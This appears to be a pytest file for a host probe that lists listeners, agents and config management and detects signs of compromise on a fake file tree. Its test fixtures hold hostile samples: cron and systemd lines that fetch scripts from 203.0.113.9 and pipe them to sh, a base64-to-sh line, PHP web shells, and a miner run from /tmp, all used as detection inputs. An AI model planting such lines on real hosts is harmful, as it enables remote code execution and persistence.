"""The host's script under the shells that hosts have, against a file tree of its own."""

from __future__ import annotations

import hashlib
import re
import subprocess
import tempfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from haltuun.model import Unknown
from haltuun.stages.discover.lines import Lines, script
from haltuun.stages.discover.listeners import parse_listeners
from haltuun.stages.discover.parse_inside import STRONG_SIGNS, parse_agent, parse_suspect, parse_unlooked
from tests.stages.fakehost import SHELLS, FakeHost, fake_host, metadata_service, snapshot

PROBE = script("haltuun.stages.discover", "common.sh", "suspect.sh", "probe.sh")
ID = "i-0abc1234def567890"
# Local port 80 (0050) listening, owned by inode 4242; 127.0.0.1:3306 (0CEA) by 4343; one established.
TCP = """  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
   0: 00000000:0050 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 4242 1 0
   1: 0100007F:0CEA 00000000:0000 0A 00000000:00000000 00:00000000 00000000   105        0 4343 1 0
   2: 0100007F:0CEA 0100007F:9C40 01 00000000:00000000 00:00000000 00000000   105        0 4344 1 0
"""


@pytest.fixture
def host(tmp_path: Path) -> FakeHost:
    return fake_host(tmp_path)


def probe(host: FakeHost, shell: str = "dash") -> Lines:
    done = host.run(shell, PROBE)
    assert done.stderr == ""
    assert done.stdout.endswith("end\tprobe\n")
    return Lines(done.stdout)


@pytest.mark.parametrize("shell", SHELLS)
def test_it_runs_to_its_end_and_writes_nothing(host: FakeHost, shell: str, tmp_path: Path) -> None:
    host.write({"etc/os-release": 'ID=ubuntu\nVERSION_ID="22.04"\n'})
    host.tool("curl")
    before = snapshot(tmp_path)
    with metadata_service(ID, tokens="required") as host.metadata:
        lines = probe(host, shell)
    assert snapshot(tmp_path) == before
    assert lines.first("imds.instance-id") == ID
    assert (lines.first("imds.account"), lines.first("imds.region")) == ("111122223333", "eu-central-1")
    assert lines.has("os-release", "ID=ubuntu")
    for part in ("agent", "listeners", "logs", "suspect.running", "suspect.checksum", "suspect.upload"):
        assert lines.has("done", part) or lines.rows("cannot"), part


@pytest.mark.parametrize("tool", ["curl", "wget", "bash", "perl"])
@pytest.mark.parametrize("tokens", ["required", "off"])
def test_metadata_is_asked_with_what_is_there(host: FakeHost, tool: str, tokens: str) -> None:
    host.tool(tool)
    with metadata_service(ID, tokens=tokens) as host.metadata:
        lines = probe(host)
    assert lines.first("imds.instance-id") == ID
    assert lines.first("imds.v2") == ("yes" if tokens == "required" else "no")


def test_without_any_tool_metadata_is_unknown_with_that_reason(host: FakeHost) -> None:
    lines = probe(host)
    assert lines.first("imds.instance-id") is None
    assert "no curl" in (lines.first("imds.v2") or "")


@pytest.mark.parametrize("shell", SHELLS)
def test_listeners_from_proc_with_process_package_and_unit(host: FakeHost, shell: str) -> None:
    host.write(
        {
            "proc/net/tcp": TCP,
            "var/lib/dpkg/info/apache2-bin.list": "/.\n/usr/sbin/apache2\n",
            "var/lib/dpkg/info/mysql-server-core-8.0:amd64.list": "/.\n/sbin/mysqld\n",
            "var/lib/dpkg/status": "",
        }
    )
    host.process(70, "apache2", "/usr/sbin/apache2", cgroup="/system.slice/apache2.service")
    host.process(80, "mysqld", "/usr/sbin/mysqld (deleted)", cgroup="/system.slice/mysql.service")
    (host.root / "proc/70/fd/4").symlink_to("socket:[4242]")
    (host.root / "proc/80/fd/9").symlink_to("socket:[4343]")
    found = {(entry.port, entry.address): entry for entry in parse_listeners(probe(host, shell))}
    web, database = found[80, "0.0.0.0"], found[3306, "127.0.0.1"]
    assert (web.process, web.package, web.unit) == ("apache2", "apache2-bin", "apache2.service")
    assert (database.process, database.package, database.unit) == (
        "mysqld",
        "mysql-server-core-8.0",
        "mysql.service",
    )
    assert len(found) == 2


PORTS = sorted((Path(__file__).parents[2] / "cases" / "discover" / "listeners").glob("*.txt"))


@pytest.mark.parametrize("case", PORTS, ids=lambda path: path.stem)
def test_listeners_from_ss_old_and_new_and_netstat(host: FakeHost, case: Path) -> None:
    host.tool(case.stem.split("-")[0], f"cat {case}")
    host.process(70, "systemd-resolve", "/lib/systemd/systemd-resolved")
    host.process(71, "nginx", "/usr/sbin/nginx")
    found = [
        (entry.port, entry.protocol, entry.address, entry.process) for entry in parse_listeners(probe(host))
    ]
    assert found == [(53, "udp", "127.0.0.53", "systemd-resolve"), (443, "tcp", "::", "nginx")]


def test_ports_that_nobody_can_tell_are_unknown_and_not_none(host: FakeHost) -> None:
    lines = probe(host)
    assert not lines.has("done", "listeners")
    assert "neither ss nor netstat" in lines.reason("listeners").unknown


@pytest.mark.parametrize(
    ("enabled", "expected"), [("enabled", True), ("disabled", False), ("masked", False), ("static", True)]
)
def test_agent_of_a_deb_under_systemd(host: FakeHost, enabled: str, expected: bool) -> None:
    status = "Package: amazon-ssm-agent\nStatus: install ok installed\nVersion: 3.3.1142.0-1\n\n"
    host.write(
        {"var/lib/dpkg/status": "Package: bash\nStatus: install ok installed\nVersion: 5\n\n" + status}
    )
    host.process(90, "amazon-ssm-agen")
    host.process(91, "ssm-agent-worke")
    host.tool("systemctl", f'[ "$1" = is-enabled ] && echo {enabled}; exit 0')
    agent = parse_agent(probe(host))
    assert (agent["agent_package"], agent["agent_version"]) == ("deb", "3.3.1142.0-1")
    assert agent["agent_running"] is True
    assert agent["agent_enabled"] is expected
    assert agent["agent_processes"] == ("amazon-ssm-agen (pid 90)", "ssm-agent-worke (pid 91)")


def test_agent_removed_but_not_purged_is_no_agent(host: FakeHost) -> None:
    host.write(
        {
            "var/lib/dpkg/status": "Package: amazon-ssm-agent\nStatus: deinstall ok config-files\n"
            "Version: 3.1\n",
        }
    )
    agent = parse_agent(probe(host))
    assert (agent["agent_package"], agent["agent_version"], agent["agent_running"]) == ("none", None, False)


@pytest.mark.parametrize(("override", "expected"), [("", True), ("manual\n", False)])
def test_upstart(host: FakeHost, override: str, expected: bool) -> None:
    host.write(
        {
            "proc/1/comm": "init\n",
            "etc/init/amazon-ssm-agent.conf": "start on (runlevel [345])\nrespawn\n",
            "etc/init/amazon-ssm-agent.override": override,
            "sbin/initctl": "",
            "var/lib/dpkg/status": "Package: amazon-ssm-agent\nStatus: install ok installed\nVersion: 2.3\n",
        }
    )
    (host.root / "sbin/initctl").chmod(0o755)
    host.tool("initctl", "echo 'mysql start/running, process 70'; echo 'tty1 stop/waiting'")
    lines = probe(host)
    assert lines.first("init") == "upstart"
    assert lines.rows("unit") == [("mysql",)]
    assert lines.rows("unit.pid", 2) == [("mysql", "70")]
    assert parse_agent(lines)["agent_enabled"] is expected


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({}, "no"),
        ({"opt/aws/amazon-cloudwatch-agent/etc/common-config.toml": "# of the package\n"}, "no"),
        ({"opt/aws/amazon-cloudwatch-agent/etc/amazon-cloudwatch-agent.json": "{}\n"}, "yes"),
        ({"opt/aws/amazon-cloudwatch-agent/etc/amazon-cloudwatch-agent.d/ssm_old": "{}\n"}, "yes"),
    ],
)
def test_a_configured_cloudwatch_agent_counts_when_it_is_stopped(
    host: FakeHost, files: dict[str, str], expected: str
) -> None:
    host.write(files)
    lines = probe(host)
    assert (lines.first("cloudwatch"), lines.has("done", "cloudwatch")) == (expected, True)


@pytest.mark.parametrize("shell", SHELLS)
def test_what_puts_the_hosts_files_back_is_named_with_how_it_acts(host: FakeHost, shell: str) -> None:
    assert probe(host, shell).rows("config-management") == []
    host.write(
        {
            "etc/cron.d/chef": "# chef-client once\n*/30 * * * * root /usr/bin/chef-client -l warn\n",
            "etc/crontab": "# ansible-pull is gone\n",
            "etc/salt/minion": "master: salt\n",
        }
    )
    host.process(60, "ruby", cmdline="/usr/bin/ruby\0/opt/puppetlabs/puppet/bin/puppet\0agent\0")
    lines = probe(host, shell)
    assert lines.rows("config-management", 2) == [
        ("puppet", "its process puppet runs"),
        ("chef", "/etc/cron.d/chef starts chef-client"),
        ("salt", "/etc/salt/minion is there"),
    ]
    assert lines.has("done", "config-management")


# -- strong signs of compromise ------------------------------------------------------------------


@pytest.mark.parametrize("shell", SHELLS)
def test_no_sign_on_an_ordinary_host(host: FakeHost, shell: str) -> None:
    sshd = "genuine"
    host.process(70, "sshd", "/usr/sbin/sshd")
    host.write(
        {
            "usr/sbin/sshd": sshd,
            "var/lib/dpkg/info/openssh-server.md5sums": f"{_md5(sshd)}  usr/sbin/sshd\n",
            "etc/cron.d/backup": "0 3 * * * root curl -s https://example.org/x | gzip > /srv/x.gz\n",
            "etc/cron.daily/note": "# curl https://example.org/install | sh was how we once did it\n",
            "var/www/html/wp-content/uploads/index.php": "<?php\n// Silence is golden.\n",
            "var/www/html/wp-content/uploads/a/index.php": "<?php /* nothing\nhere */"
            " if ( ! defined( 'ABSPATH' ) ) { exit; }",
            "var/www/html/wp-content/plugins/x/x.php": "<?php echo 1;",
        }
    )
    assert parse_suspect(probe(host, shell)) == ()


SIGNS = {
    "cron": {"etc/cron.d/x": "* * * * * root curl -fsSL http://203.0.113.9/a.sh | bash\n"},
    "cron of a user": {"var/spool/cron/crontabs/www-data": "*/5 * * * * wget -qO- http://203.0.113.9/a|sh\n"},
    "unit": {
        "etc/systemd/system/x.service": '[Service]\nExecStart=/bin/sh -c "$(curl -s http://203.0.113.9/a)"\n'
    },
    "base64": {"etc/cron.d/y": "@reboot root echo aGk= | base64 -d | sh\n"},
    "upload": {"var/www/html/wp-content/uploads/2024/x.php": "<?php eval($_POST['c']);"},
    "upload of drupal": {"srv/site/sites/default/files/y.phtml": "<?= `$_GET[c]` ?>"},
    "checksum": {
        "usr/bin/ps": "trojan",
        "var/lib/dpkg/info/procps.md5sums": "d41d8cd98f00b204e9800998ecf8427e  usr/bin/ps\n",
    },
}


@pytest.mark.parametrize("sign", list(SIGNS))
@pytest.mark.parametrize("shell", SHELLS)
def test_each_strong_sign_is_seen(host: FakeHost, sign: str, shell: str) -> None:
    host.write(SIGNS[sign])
    found = parse_suspect(probe(host, shell))
    assert isinstance(found, tuple)
    assert len(found) == 1, found


@pytest.mark.parametrize("exe", ["/tmp/kdevtmpfsi", "/dev/shm/.x/a", "/var/tmp/b (deleted)"])
def test_a_program_that_runs_from_where_anybody_may_write(host: FakeHost, exe: str) -> None:
    host.process(99, "kinsing", exe)
    assert parse_suspect(probe(host)) == (f"a program runs from {exe} (pid 99)",)


def test_a_secret_beside_a_sign_stays_on_the_host(host: FakeHost) -> None:
    host.write({"etc/cron.d/x": "* * * * * root curl -u me:hunter2 http://203.0.113.9/a | sh\n"})
    assert "hunter2" not in host.run("dash", PROBE).stdout


def test_a_diverted_program_is_an_administrators_doing(host: FakeHost) -> None:
    host.write(SIGNS["checksum"])
    host.write({"var/lib/dpkg/diversions": "/usr/bin/ps\n/usr/bin/ps.real\n:\n"})
    assert parse_suspect(probe(host)) == ()


@pytest.mark.parametrize("tool", ["openssl", "perl", "busybox"])
def test_checksums_are_compared_with_what_is_there(host: FakeHost, tool: str) -> None:
    (host.bin / "md5sum").unlink()
    host.tool(tool)
    sshd = "genuine"
    host.write(
        {"usr/sbin/sshd": sshd, "var/lib/dpkg/info/ssh.md5sums": f"{_md5(sshd)}  usr/sbin/sshd\n"}
        | SIGNS["checksum"]
    )
    assert parse_suspect(probe(host)) == ("/usr/bin/ps is not the file that its package installed",)


def test_a_sign_that_the_host_cannot_tell_makes_only_itself_unknown(host: FakeHost) -> None:
    (host.bin / "md5sum").unlink()
    host.write({"var/lib/dpkg/info/ssh.md5sums": ""})
    lines = probe(host)
    assert parse_suspect(lines) == ()
    (unlooked,) = parse_unlooked(lines)
    assert unlooked.startswith("checksum: there is no md5sum")


def test_a_search_that_is_cut_off_still_tells_what_it_found(host: FakeHost) -> None:
    host.write({**SIGNS["upload"], "var/lib/dpkg/info/ssh.md5sums": ""})
    path = host.root / next(iter(SIGNS["upload"]))
    host.tool("find", f'echo "{path}"; exit 124')
    lines = probe(host)
    assert len(parse_suspect(lines)) == 1  # type: ignore[arg-type]
    assert [text.partition(":")[0] for text in parse_unlooked(lines)] == ["upload"]


def test_a_script_that_broke_off_before_its_signs_tells_nothing(host: FakeHost) -> None:
    text = host.run("dash", PROBE).stdout
    cut = Lines(text.partition("done\tsuspect.pipe")[0])
    assert isinstance(parse_suspect(cut), Unknown)
    nothing = Lines("".join(f"cannot\tsuspect.{sign}\twhy\n" for sign in STRONG_SIGNS))
    assert isinstance(parse_suspect(nothing), Unknown)


def _md5(text: str) -> str:
    return hashlib.md5(text.encode(), usedforsecurity=False).hexdigest()


LISTENED = re.compile(r"listener\t(tcp|udp)\t[^\t\n]*\t[0-9]+\t[0-9]*")
FIELD = st.one_of(
    st.sampled_from(
        (
            *("tcp", "udp6", "tcpx", "LISTEN", "UNCONN", "0", "128", "-", "1/sshd", "77/", "*:*", ":", "]["),
            *("0.0.0.0:22", "[::]:80", ":::80", "127.0.0.53%lo:53", "1.2.3.4:http", "pid=", "pid=7", "%s%n"),
            *('users:(("sshd",pid=1,fd=3))', 'users:(("a b",12,3))', 'users:(("",pid=,', '",9,', "9" * 400),
        )
    ),
    st.text(max_size=20),
)
LINE = st.builds(
    lambda first, fields, between: between.join([first, *fields]),
    st.sampled_from(("tcp", "udp", "tcp6")) | FIELD,
    st.lists(FIELD, max_size=8),
    st.sampled_from((" ", "\t", "   ", "\r", "\x0b")),
)
# Each of many answers goes through both readers, in one process.
READ_ALL = """
bounded() { cat "$answer"; }
for answer in "$1"/*; do
    listeners_ss
    listeners_netstat
done
"""


@settings(max_examples=10, deadline=None)
@given(st.lists(st.lists(LINE, min_size=1, max_size=6), min_size=1, max_size=25))
def test_of_whatever_ss_and_netstat_print_come_listeners_or_nothing(answers: list[list[str]]) -> None:
    readers = PROBE[PROBE.index("listeners_ss()") : PROBE.index("# State 0A is LISTEN")]
    sound = ['tcp LISTEN 0 128 0.0.0.0:22 *:* users:(("sshd",pid=41,fd=3))']
    with tempfile.TemporaryDirectory() as folder:
        for number, lines in enumerate([*answers, sound]):
            Path(folder, f"{number:03}").write_text("\n".join(lines), encoding="utf-8", newline="")
        done = subprocess.run(
            ["dash", "-c", readers + READ_ALL, "dash", folder], capture_output=True, check=True, timeout=60
        )
    assert done.stderr == b""
    out = done.stdout.decode("utf-8", "replace")
    assert [line for line in out.split("\n")[:-1] if not LISTENED.fullmatch(line)] == []
    found = parse_listeners(Lines(out))
    assert 22 in {one.port for one in found} and all(one.protocol in ("tcp", "udp") for one in found)
